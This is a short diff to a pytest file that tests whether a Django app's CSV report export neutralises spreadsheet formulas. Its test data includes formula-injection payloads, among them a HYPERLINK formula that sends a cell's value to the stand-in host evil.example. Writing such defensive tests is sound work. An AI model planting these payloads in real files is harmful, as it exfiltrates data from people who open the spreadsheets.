@@ -6,6 +6,7 @@ import io
 import pytest
 
 from reports.csv import inert, report_csv
+from tests.factories import TopicFactory
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -54,10 +55,9 @@ def test_report_csv_cells_are_inert_and_numbers_stay_numbers():
 @pytest.mark.django_db
 def test_topics_csv_download_neutralises_a_formula_topic(as_member, team, manager):
     from inquiries import services
-    from shifts.models import Topic
 
     formula = '=HYPERLINK("http://evil.example/","x")'
-    topic = Topic.objects.create(team=team, name=formula)
+    topic = TopicFactory(team=team, name=formula)
     services.inquiry_create(
         team=team, subject="s", body="b", requester_name="Lea", requester_email="lea@example.org", topic=topic
     )
